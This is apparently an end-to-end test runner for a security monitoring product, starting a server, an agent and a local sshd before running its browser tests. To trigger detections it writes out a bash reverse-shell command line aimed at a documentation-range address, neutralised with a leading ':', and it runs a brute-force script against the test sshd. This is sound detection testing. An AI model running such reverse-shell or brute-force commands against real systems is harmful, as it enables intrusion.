#!/usr/bin/env python3
"""Runs the portal's browser tests against a real server, a real agent on this machine and a real sshd.

The last line is that of tools/portal/test.sh. With --latency FILE only the brute-force test runs and writes its figure there.
"""

import os
import pathlib
import subprocess
import sys
import tempfile

ROOT = pathlib.Path(__file__).resolve().parents[2]
sys.path.insert(0, str(ROOT / "tests/e2e"))

from picket_agent import Agent  # noqa: E402
from picket_server import Server, wait_for  # noqa: E402
from ssh_server import ssh_server  # noqa: E402


def main() -> int:
    latency = sys.argv[2] if sys.argv[1:2] == ["--latency"] else ""
    with tempfile.TemporaryDirectory(prefix="picket-browser-") as name:
        folder = pathlib.Path(name)
        server = Server(folder).start()
        agent = Agent(folder / "agent", server, "press-17")
        try:
            agent.start().wait_connected()
            with ssh_server(folder) as ssh:
                password_file = folder / "password"
                password_file.touch(mode=0o600)
                password_file.write_text(ssh.password)
                attack = f"python3 {ROOT}/tests/e2e/ssh_attack.py {ssh.port} {ssh.user} {password_file}"
                wait_for(lambda: server.query("SecurityIoTRawEvent | take 1"), 30, "events of the agent")
                environment = dict(
                    os.environ, PICKET_URL=server.url, PICKET_USER="admin", PICKET_BRUTE_FORCE=attack,
                    PICKET_SECRET=(server.data / "secrets/first-sign-in").read_text().strip(),
                    # A reverse shell by its command line; each run is another window of another command.
                    PICKET_TRIGGER="/bin/bash -c ': bash -i >& /dev/tcp/203.0.113.'$((RANDOM % 250))'/'$((RANDOM + 1024))' 0>&1'",
                    PICKET_LATENCY_FILE=latency)
                only = ["brute-force.spec.ts"] if latency else []
                return subprocess.run([ROOT / "tools/portal/test.sh", "browser", *only], env=environment,
                                      stdin=subprocess.DEVNULL).returncode
        finally:
            agent.stop()
            server.stop()


if __name__ == "__main__":
    sys.exit(main())
